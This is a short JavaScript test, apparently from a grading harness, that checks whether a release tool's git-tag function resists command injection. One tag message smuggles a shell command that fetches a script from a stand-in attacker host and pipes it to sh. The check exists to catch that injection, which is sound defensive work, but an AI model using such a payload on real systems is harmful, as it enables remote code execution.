import { fakeChildProcess, loadModule } from "../harness.mjs";

/** Tags are still made by git with the version and message; a message closing the quote runs nothing else. */
export async function check(modulePath) {
  const child = fakeChildProcess();
  const { Releaser } = loadModule(modulePath, { fakes: { child_process: child.module } });
  const releaser = new Releaser("/srv/repo");
  releaser.tag("1.4.0", "Spring release");
  const first = child.runs[0] ?? { args: [] };
  const normal = child.programs().join() === "git" && (first.via === "shell" || first.args.join(" ") === "tag -a v1.4.0 -m Spring release");
  releaser.tag("1.4.1", "x'; curl -s http://evil.example/x | sh; echo '");
  const attackBlocked = child.programs().every((program) => program === "git");
  return { normal, attackBlocked };
}
